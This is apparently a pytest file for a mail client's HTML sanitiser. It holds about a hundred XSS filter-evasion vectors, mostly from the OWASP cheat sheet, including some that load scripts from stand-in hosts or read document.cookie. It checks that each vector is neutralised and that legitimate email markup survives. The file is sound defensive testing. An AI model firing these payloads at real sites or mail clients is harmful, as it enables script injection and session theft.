"""HTML sanitising: OWASP filter-evasion vectors and what must survive."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from logmail.mail import parse_message, sanitise_html

# Mostly from the OWASP XSS Filter Evasion Cheat Sheet, plus mutation-XSS
# and mail-specific vectors.
XSS_VECTORS = [
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"&#14;javascript:alert(1)\">click</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"java\x00script:alert(1)\">nul</a>",
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<SCRIPT/SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<BODY ONLOAD=alert('XSS')>",
    "<body onload=alert(1)>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<style>@import url(javascript:alert(1));</style><p>x</p>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://xss.example/xss.css>; REL=stylesheet\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"color: red; background: url(&quot;javascript:alert(1)&quot;)\">x</div>",
    "<div style=\"color:\\6a avascript:alert(1)\">x</div>",
    "<div style=\"behavior: url(xss.htc); -moz-binding: url(xss.xml#xss)\">x</div>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"https://evil.example/\"><a href=\"x\">rel</a>",
    "<form action=\"javascript:alert(1)\"><input type=submit><button formaction=javascript:alert(1)>b</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">newline entity</a>",
    "<a href=\"\\x01javascript:alert(1)\">ctl</a>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<xml><i><b>&lt;img src=1 onerror=alert(1)&gt;</b></i></xml>",
    "<textarea><script>alert(1)</script></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=\"x\" onerror=\"alert(1)\"/>",
    "<a href=\"https://ok.example\" target=\"_blank\" onclick=\"x()\">ok</a>",
]

_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button",
    "textarea", "select", "meta", "base", "link", "svg", "math", "body", "html", "head", "title",
    "applet", "bgsound", "isindex", "template", "noscript", "xml", "audio", "video", "source",
}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "dynsrc", "lowsrc", "data", "xlink:href", "poster"}
_SCRIPT_URL = re.compile(r"(java|vb)script:", re.IGNORECASE)
_CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        self.tags.append(("/" + tag, []))


def assert_safe(output: str) -> None:
    collector = _Collector()
    collector.feed(output)
    collector.close()
    for tag, attributes in collector.tags:
        assert tag.lstrip("/") not in _FORBIDDEN_TAGS, (tag, output)
        for name, value in attributes:
            assert not name.startswith("on"), (name, output)
            assert name != "style" or not re.search(r"url\(|expression|\\", value or "", re.I), output
            # Browsers ignore controls and white space inside URL schemes.
            compact = _CONTROL_AND_SPACE.sub("", value or "")
            assert not _SCRIPT_URL.search(compact), (name, value, output)
            if name in _URL_ATTRIBUTES:
                assert re.match(r"(https?|mailto|cid):", compact, re.I), (name, value, output)
        if tag == "a" and any(name == "href" for name, _ in attributes):
            assert ("rel", "noopener noreferrer") in attributes, output
    # Whole-output checks, independent of the parser above.  In serialised
    # output a literal "<" only ever opens a real tag (text has "&lt;").
    assert not re.search(r"<[^>]*\son\w+\s*=", output, re.I), output
    unescaped = _CONTROL_AND_SPACE.sub("", html.unescape(output)).lower()
    assert "<script" not in output.lower()
    assert not re.search(r"(href|src|action|background|data)=[\"']?(java|vb)script:", unescaped), output


def test_there_are_enough_vectors():
    assert len(XSS_VECTORS) >= 30


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector):
    assert_safe(sanitise_html(vector))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised_in_a_message(vector):
    raw = b"Content-Type: text/html; charset=utf-8\n\n<html><body><p>hi</p>" + vector.encode() + b"</body></html>"
    message = parse_message(raw)

    assert message.html is not None and "<p>hi</p>" in message.html
    assert_safe(message.html)


def test_checker_rejects_unsafe_html():
    # The safety check must itself be able to fail.
    for unsafe in ('<a href="java&#x09;script:x">a</a>', "<img src=x onerror=y>", "<svg></svg>",
                   '<div style="background:url(x)"></div>', '<a href="https://x">no rel</a>'):
        with pytest.raises(AssertionError):
            assert_safe(unsafe)


# --- what must survive ------------------------------------------------------


def test_inline_cid_images_and_safe_links_are_kept():
    out = sanitise_html(
        '<p>Logo: <img src="cid:logo@example.com" alt="Logo" width="120" height="40"></p>'
        '<a href="https://example.com/a?b=1&amp;c=2">web</a> <a href="mailto:x@example.com">mail</a>'
        '<a href="http://plain.example/">http</a>'
    )
    assert out == (
        '<p>Logo: <img src="cid:logo@example.com" alt="Logo" width="120" height="40"></p>'
        '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer">web</a> '
        '<a href="mailto:x@example.com" rel="noopener noreferrer">mail</a>'
        '<a href="http://plain.example/" rel="noopener noreferrer">http</a>'
    )


def test_mail_layout_markup_is_kept():
    out = sanitise_html(
        '<table width="600" cellpadding="0" bgcolor="#ffffff" align="center"><tr>'
        '<td style="padding: 10px; color: #333333; font-family: Arial, sans-serif" valign="top">'
        '<font color="red" face="Verdana">Hi</font> <b>bold</b> <i>it</i> <u>u</u></td></tr></table>'
        "<ul><li>one</li></ul><blockquote>q</blockquote><h1>T</h1><pre>code</pre><hr>"
    )
    assert out == (
        '<table width="600" cellpadding="0" bgcolor="#ffffff" align="center"><tbody><tr>'
        '<td style="padding:10px;color:#333333;font-family:Arial , sans-serif" valign="top">'
        '<font color="red" face="Verdana">Hi</font> <b>bold</b> <i>it</i> <u>u</u></td></tr></tbody></table>'
        "<ul><li>one</li></ul><blockquote>q</blockquote><h1>T</h1><pre>code</pre><hr>"
    )


def test_style_keeps_safe_properties_only():
    out = sanitise_html('<p style="color: red; position: fixed; top: 0; background-image: url(https://t.example/p.gif)">x</p>')
    assert out == '<p style="color:red">x</p>'


def test_remote_images_relative_urls_and_data_urls():
    out = sanitise_html('<img src="https://cdn.example/a.png"><img src="/relative.png"><img src="data:image/png;base64,AAAA">')
    assert out == '<img src="https://cdn.example/a.png"><img><img>'


def test_script_and_style_content_is_removed_entirely():
    out = sanitise_html("<style>.secret{}</style><script>var secret;</script><title>T</title><p>visible</p>")
    assert out == "<p>visible</p>"


def test_empty_and_plain_text_input():
    assert sanitise_html("") == ""
    assert sanitise_html("just text & 1 < 2") == "just text &amp; 1 &lt; 2"
